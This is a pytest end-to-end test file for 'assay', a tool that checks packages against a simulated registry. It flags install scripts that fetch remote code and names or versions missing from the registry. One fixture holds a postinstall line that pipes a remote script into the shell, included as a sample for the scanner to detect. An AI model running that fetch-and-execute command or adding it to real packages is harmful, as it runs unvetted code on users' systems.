from __future__ import annotations

from pathlib import Path

import pytest

from tests.end_to_end.run import Machine
from tests.registry_simulator import RegistrySimulator

FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}


def test_names_before_they_are_installed(machine: Machine, registry: RegistrySimulator) -> None:
    registry.publish("deep-thing")
    registry.publish("plain-thing", "1.2.3", manifest={"dependencies": {"deep-thing": "^1.0.0"}})
    registry.publish("bad-thing", manifest=FETCHES)
    done = machine.assay("check", "plain-thing", "bad-thing@1.0.0", "--format", "json")
    assert (done.code, done.stderr) == (1, "")
    assert done.refs == {"plain-thing@1.2.3", "bad-thing@1.0.0"}
    assert "install-script-fetches" in done.rules("bad-thing@1.0.0")
    with_all = machine.assay("check", "plain-thing", "--deps", "--format", "json")
    assert with_all.refs == {"plain-thing@1.2.3", "deep-thing@1.0.0"}


def test_the_terminal_says_what_was_found(machine: Machine, registry: RegistrySimulator) -> None:
    registry.publish("bad-thing", manifest=FETCHES)
    done = machine.assay("check", "bad-thing")
    assert done.code == 1
    assert "1 package to block" in done.stdout
    assert "package.json:" in done.stdout


def test_a_name_that_does_not_exist(machine: Machine) -> None:
    done = machine.assay("check", "no-such-thing-here", "--format", "json")
    assert done.refs == {"no-such-thing-here@"}
    assert "name-not-in-registry" in done.rules("no-such-thing-here@")
    assert "no-such-thing-here" in machine.assay("check", "no-such-thing-here").stdout


def test_a_version_that_does_not_exist(machine: Machine, registry: RegistrySimulator) -> None:
    registry.publish("plain-thing")
    done = machine.assay("check", "plain-thing@9.9.9", "--format", "json")
    assert "release-not-in-registry" in done.rules("plain-thing@9.9.9")
    nothing = machine.assay("check", "plain-thing@^9", "--format", "json")
    assert (nothing.code, nothing.refs) == (3, set())
    assert "no release satisfies it" in nothing.input_gaps[0]["why"]


@pytest.mark.parametrize("word", ["", "   ", "./folder", "https://files.invalid/x.tgz", "a b", "pkg:pypi/six"])
def test_words_that_are_no_names(word: str, machine: Machine, tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    done = machine.assay("check", word, cwd=tmp_path)
    assert (done.code, done.stdout) == (2, "")
    assert done.stderr.startswith("assay: ")


def test_nothing_to_check_is_wrong_use(machine: Machine) -> None:
    done = machine.assay("check")
    assert done.code == 2
    assert "NAME" in done.stderr
